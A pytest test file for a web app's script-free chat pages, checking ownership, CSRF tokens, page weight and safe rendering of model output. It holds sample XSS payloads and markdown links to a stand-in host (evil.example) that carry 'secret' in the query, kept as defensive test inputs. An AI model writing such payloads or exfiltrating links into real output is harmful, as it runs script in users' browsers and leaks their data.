"""Chats as pages, without scripts: whose they are, what is shown, and what an installation lacks."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from agent.chat import wire
from agent.web import stream
from agent.web.process import ChatProcess
from agent.web.section import SECTION, may_ask
from agent.web.setup import NO_MODEL
from drls_dagster.lakehouse.reader import IcebergTables
from drls_dagster.settings import load_settings
from drls_dagster.web.sections import SECTIONS as WITH_TABLES
from lifecycle.app.kit.csrf import FIELD, masked
from lifecycle.app.kit.guard import Visitor
from lifecycle.app.kit.parts import Parts
from lifecycle.app.kit.request import COOKIE
from lifecycle.app.site import Site, create_site
from lifecycle.domain.credentials import TokenScope
from lifecycle.errors import Forbidden
from tests.agent.web.conftest import site_with_chats
from tests.fakes.chats import FakeChats
from tests.iceberg_tables import make_table
from tests.lifecycle.app.visit import PASSWORD
from tests.lifecycle.life import QA, UAT, Life

WEIGHT = 150_000  # as `make bench` allows for every page of the app
Enter = Callable[[str], "Browser"]


class Browser:
    """Somebody's browser without scripts."""

    def __init__(self, life: Life, process: ChatProcess, name: str, site: Site | None = None) -> None:
        self.client = TestClient(site or site_with_chats(life.ctx, process), follow_redirects=False)
        life.give_password(name, PASSWORD)
        assert self.client.post("/sign-in", data={"account": name, "password": PASSWORD}).status_code == 303

    def page(self, path: str, status: int = 200) -> str:
        answer = self.client.get(path)
        assert answer.status_code == status, answer.text
        return answer.text

    def post(self, path: str, **fields: str):
        fields = {FIELD: masked(self.client.cookies[COOKIE]), "key": "key-" + path, **fields}
        return self.client.post(path, data=fields)


@pytest.fixture
def enter(life: Life, process: ChatProcess) -> Enter:
    return lambda name: Browser(life, process, name)


def test_a_chat_begins_with_its_first_message_and_about_what_was_looked_at(enter: Enter, fake: FakeChats) -> None:
    ada = enter("ada")
    page = ada.page("/chats/new?about=pipeline:flights")
    assert '<a href="/pipelines/flights">flights</a>' in page
    assert "What changed in its last version?" in page
    answer = ada.post("/chats", text=" Why?\r\nTell me ", model="large", about="pipeline:flights")
    assert (answer.status_code, answer.headers["location"]) == (303, f"/chats/{fake.only}")
    chat = fake.chats[fake.only]
    assert (chat.owner, chat.model, chat.about) == ("ada", "large", wire.About(kind="pipeline", name="flights"))
    assert [one.text for one in chat.entries if isinstance(one, wire.Said)] == ["Why?\nTell me"]
    assert "Why?\nTell me" in ada.page(f"/chats/{fake.only}")
    assert ada.post("/chats", text="  ").status_code == 422
    assert ada.page("/chats/new?about=person:ada", 422)


def weight(browser: Browser, path: str) -> int:
    """Bytes that a browser that has seen nothing yet gets for a page: the page, and what it names."""
    page = browser.client.get(path, headers={"Accept-Encoding": "gzip"})
    assert page.status_code == 200
    named = set(re.findall(r'(?:href|src)="(/static/[^"#]+)', page.text))
    assert any("chats.css" in one for one in named)
    answers = [page, *(browser.client.get(one, headers={"Accept-Encoding": "gzip"}) for one in named)]
    assert all(one.status_code == 200 for one in answers)
    return sum(int(one.headers.get("content-length", len(one.content))) for one in answers)


def test_the_pages_of_chats_weigh_what_other_pages_weigh(enter: Enter, fake: FakeChats) -> None:
    """Also a long chat, whose tools said much."""
    chat = fake.begin("ada")
    for number in range(50):
        fake.reply(chat, f"answer {number}: " + "some words and a `name`. " * 40)
        fake.call(chat, "get_table", wire.CallState.DONE, output=json.dumps({"rows": [f"row {number}"] * 2_000}))
    for number in range(60):
        fake.begin("ada", title=f"chat {number} with a title of some length")
    ada = enter("ada")
    weights = {path: weight(ada, path) for path in ("/chats", "/chats/new", f"/chats/{chat}")}
    assert {path: bytes for path, bytes in weights.items() if bytes > WEIGHT} == {}


def test_a_message_goes_to_the_model_that_was_chosen(enter: Enter, fake: FakeChats) -> None:
    chat = fake.begin("ada")
    ada = enter("ada")
    assert ada.post(f"/chats/{chat}/messages", text="hello", model="large").headers["location"] == f"/chats/{chat}#end"
    assert fake.chats[chat].model == "large"
    assert "still working" in ada.post(f"/chats/{chat}/messages", text="more").text
    assert ada.post(f"/chats/{chat}/stop").status_code == 303
    assert "Stopped by you." in ada.page(f"/chats/{chat}")


def test_a_question_is_answered_with_the_digest_that_was_shown(enter: Enter, fake: FakeChats) -> None:
    chat = fake.begin("ada")
    arguments = {"pipeline": "flights", "sql": "SELECT 1\nFROM a"}
    asked = fake.question("Run flights in QA?")
    call = fake.call(chat, "run_pipeline", wire.CallState.ASKING, arguments=arguments, question=asked)
    ada = enter("ada")
    page = ada.page(f"/chats/{chat}")
    assert "Run flights in QA?" in page
    assert "SELECT 1\nFROM a" in page
    assert ada.post(f"/chats/{chat}/calls/{call}/answer", agree="yes", digest="d-0").status_code == 409
    assert fake.answers == []
    assert ada.post(f"/chats/{chat}/calls/{call}/answer", agree="no", digest="d-1").status_code == 303
    assert [one.agree for one in fake.answers] == [False]


@pytest.mark.parametrize("admins", [(), ("lea",)])
def test_a_chat_is_seen_by_its_owner_alone(enter: Enter, fake: FakeChats, admins: tuple[str, ...]) -> None:
    chat = fake.begin("ada", title="Secret plans")
    entry = fake.reply(chat, "Only for Ada")
    fake.admins = admins
    lea = enter("lea")
    assert "Secret plans" not in lea.page("/chats")
    for path in (f"/chats/{chat}", f"/chats/{chat}/entries/{entry}", f"/chats/{chat}/entries/{entry}/output"):
        assert "Ada" not in lea.page(path, 404)
    for path, fields in {
        "messages": {"text": "x"}, "stop": {}, f"calls/{entry}/answer": {"agree": "yes", "digest": "d-1"},
    }.items():  # fmt: skip
        assert admins or lea.post(f"/chats/{chat}/{path}", **fields).status_code == 404
    assert "event: gone" in lea.client.get(f"/chats/{chat}/stream").text
    assert "Secret plans" in enter("ada").page("/chats?q=Secret")


def test_a_stream_ends_with_the_session_also_while_an_answer_is_made(
    enter: Enter, fake: FakeChats, life: Life, monkeypatch: pytest.MonkeyPatch
) -> None:
    chat = fake.begin("ada")
    ada = enter("ada")
    fake.reply(chat, "Only for Ada")

    async def read_when_signed_out(*given: Any) -> None:
        life.give_password("ada", PASSWORD)  # ends the session
        await given[-1].put(wire.ChatEvent(chat=fake.chats[chat]))

    monkeypatch.setattr(stream, "_read", read_when_signed_out)
    monkeypatch.setattr(stream, "_BEAT_EVERY", 0.0)
    assert "Only for Ada" not in ada.client.get(f"/chats/{chat}/stream").text


EVIL = "\"'><script>alert(1)</script><img src=x onerror=alert(1)>"


def test_what_is_sent_never_comes_back_as_markup(enter: Enter, fake: FakeChats) -> None:
    chat = fake.begin("ada", title="Mine")
    entry = fake.reply(chat, "Hello")
    ada = enter("ada")
    evil = quote(EVIL, safe="")
    for path in (
        f"/chats?q={evil}", f"/chats?before={evil}", f"/chats/new?about={evil}", f"/chats/new?about=pipeline:{evil}",
        f"/chats/{evil}", f"/chats/{chat}?before={evil}", f"/chats/{chat}/entries/{evil}", f"/chats/{evil}/stream",
    ):  # fmt: skip
        answer = ada.client.get(path)
        assert answer.status_code < 500, path
        assert not re.search(r"<script>alert|<img src=x", answer.text), path
    for path, fields in {
        "/chats": {"text": "x", "about": EVIL}, f"/chats/{chat}/messages": {"text": EVIL, "model": EVIL},
        f"/chats/{chat}/calls/{entry}/answer": {"agree": EVIL, "digest": EVIL},
    }.items():  # fmt: skip
        answer = ada.post(path, **fields)
        assert answer.status_code < 500, path
        assert "<script>alert" not in answer.text


def test_a_form_without_its_token_changes_nothing(enter: Enter, fake: FakeChats) -> None:
    chat = fake.begin("ada")
    ada = enter("ada")
    for path in ("/chats", f"/chats/{chat}/messages", f"/chats/{chat}/stop", f"/chats/{chat}/calls/1/answer"):
        assert ada.post(path, text="x", agree="yes", digest="d-1", csrf="").status_code == 403
    assert not fake.chats[chat].entries
    assert not fake.stopped


def test_service_accounts_have_no_chats(life: Life, process: ChatProcess) -> None:
    with life.store.read() as view:
        bot = view.people.get(life.person("bot"))
    visitor = Visitor(life.as_("bot"), bot, (), "", frozenset(TokenScope), 0)
    with pytest.raises(Forbidden, match="chats are for people"):
        process.ask(life.ctx, visitor)
    assert not may_ask(Parts((process,)), visitor)


def test_whoever_has_no_role_has_no_chats(enter: Enter, life: Life) -> None:
    life.add_person("nina", None)
    nina = enter("nina")
    assert "/chats" not in nina.page("/profile")
    nina.page("/chats", 403)


def test_a_page_offers_to_ask_about_what_it_shows(enter: Enter, life: Life) -> None:
    version = life.save()
    life.to_qa(version)
    life.run(version, QA)
    request = life.ask(version, UAT)
    ada = enter("ada")
    for path, about in {
        "/pipelines/flights": "pipeline:flights", f"/approvals/{request.id}": f"request:{request.id}",
        "/environments/qa": "environment:qa",
    }.items():  # fmt: skip
        assert f'<a class="button ask" href="/chats/new?about={about}">' in ada.page(path)
    assert re.search(r'href="/chats/new\?about=run:[\w-]+">Ask about this run', ada.page("/pipelines/flights"))
    for path in ("/chats", "/chats/new", "/"):
        assert "Ask about this" not in ada.page(path)


@pytest.mark.slow
def test_a_table_offers_to_ask_about_it_on_each_of_its_pages(life: Life, process: ChatProcess) -> None:
    make_table("lab.odd name", {"x": [1]})
    life.ctx = replace(life.ctx, tables=IcebergTables(load_settings()))
    site = create_site(life.ctx, (*WITH_TABLES, SECTION), connected=(process,))
    lea = Browser(life, process, "lea", site)
    for page in ("", "/columns", "/snapshots"):
        assert '<a class="button ask" href="/chats/new?about=table:lab.odd%20name">' in lea.page(
            f"/tables/lab.odd%20name{page}"
        )
    assert "Ask about this" not in lea.page("/tables")
    assert "Is this table fresh and healthy?" in lea.page("/chats/new?about=table:lab.odd%20name")


def test_without_a_model_the_page_says_what_to_set_and_nothing_asks(
    life: Life, process: ChatProcess, enter: Enter
) -> None:
    life.save()
    ada = Browser(life, replace(process, socket=Path("/nowhere"), lack=NO_MODEL), "ada")
    for path in ("/chats", "/chats/new", "/chats/c1"):
        page = ada.page(path)
        assert "[agent.models.claude]" in page
        assert "key = &#34;env:ANTHROPIC_API_KEY&#34;" in page
        assert "textarea" not in page
    assert "Ask about this" not in ada.page("/pipelines/flights")


def test_a_model_without_its_key_is_named(enter: Enter, fake: FakeChats) -> None:
    fake.models = wire.Models(
        models=(wire.ModelInfo(name="small", is_default=True, missing="x"),), missing="set SMALL_KEY"
    )
    page = enter("ada").page("/chats/new")
    assert "set SMALL_KEY" in page
    assert "textarea" not in page


def test_without_its_process_a_page_says_how_to_start_it(life: Life, process: ChatProcess, enter: Enter) -> None:
    ada = Browser(life, replace(process, socket=Path("/nowhere/chat.sock")), "ada")
    for path in ("/chats", "/chats/new", "/chats/c1"):
        page = ada.page(path, 503)
        assert "drls up starts it" in page
        assert "drls logs agent" in page
    assert "drls up" in ada.post("/chats", text="hello").text


HOSTILE = [
    "<script>alert(1)</script>", "[x](javascript:alert(1))", "![x](https://evil.example/p.png?q=secret)",
    "[report](https://evil.example/?q=secret)", "<https://evil.example>", "[x](//evil.example)",
    "[a][b]\n\n[b]: https://evil.example", "[x](/sign-out)", "[x](/api/me)", "[x](/pipelines/../sign-out)",
    "| a | b |\n|:-:|--|\n| <img src=x onerror=alert(1)> | [x](data:text/html,x) |", "```html\n<iframe src=//evil.example>\n```",
    "[x](/dagster/graphql?query=mutation)", "[x](/chats/new?about=pipeline:flights)",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_model_writes_loads_nothing_and_leads_nowhere_else(enter: Enter, fake: FakeChats, text: str) -> None:
    chat = fake.begin("ada", title=text)
    fake.reply(chat, text)
    fake.reply(chat, text, done=False)
    fake.add(chat, wire.Said, text=text)
    fake.add(chat, wire.Note, text=text)
    fake.call(
        chat, "query", wire.CallState.FAILED, title=text, arguments={text: text}, output=text, error=text, progress=text,
        links=(wire.Link(label=text, href="https://evil.example"), wire.Link(label=text, href="javascript:alert(1)")),
    )  # fmt: skip
    page = enter("ada").page(f"/chats/{chat}")
    assert not re.search(r"<script>|<img|<iframe|\sstyle=", page)
    for href in re.findall(r'<(?:a|link|img|script)[^>]*(?:href|src)="([^"]*)"', page):
        assert re.match(r"/(?!/)|#", href), href
        assert not re.match(r"/(sign-out|api|dagster/graphql)", href), href


def test_a_link_to_a_page_of_this_site_leads_there(enter: Enter, fake: FakeChats) -> None:
    chat = fake.begin("ada")
    fake.reply(chat, "See [flights](/pipelines/flights) and [the run](/dagster/runs/1a-2b).")
    page = enter("ada").page(f"/chats/{chat}")
    assert '<a href="/pipelines/flights" rel="noopener nofollow">flights</a>' in page
    assert '<a href="/dagster/runs/1a-2b"' in page


def test_invisible_characters_are_spelled_out(enter: Enter, fake: FakeChats) -> None:
    chat = fake.begin("ada")
    fake.reply(chat, "pay\u202eload ze\u200bro")
    fake.call(chat, "query", wire.CallState.DONE, arguments={"a": "x\u202ey"}, output='{"a": "x\u200by"}')
    page = enter("ada").page(f"/chats/{chat}")
    assert "pay⟨U+202E⟩load ze⟨U+200B⟩ro" in page
    assert "\u202e" not in page
    assert "\u200b" not in page


def test_long_texts_and_outputs_stay_off_the_page(enter: Enter, fake: FakeChats) -> None:
    chat = fake.begin("ada")
    text = "word " * 200_000
    reply = fake.reply(chat, text)
    call = fake.call(chat, "query", wire.CallState.DONE, output='{"rows": "' + "x" * 20_000 + '"}')
    ada = enter("ada")
    page = ada.page(f"/chats/{chat}")
    assert len(page) < 150_000
    assert f'/chats/{chat}/entries/{reply}">960' in page
    whole = ada.client.get(f"/chats/{chat}/entries/{reply}")
    assert whole.text == text
    assert whole.headers["content-type"].startswith("text/plain")
    assert "x" * 20_000 in ada.page(f"/chats/{chat}/entries/{call}/output")
    assert ada.page(f"/chats/{chat}/entries/99", 404)


def test_the_pages_import_no_model_library() -> None:
    code = "import agent.web.section, sys; print(sorted({'litellm', 'dagster', 'pyspark', 'openai', 'mcp'} & set(sys.modules)))"
    told = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=120)
    assert told.stdout.strip() == "[]"
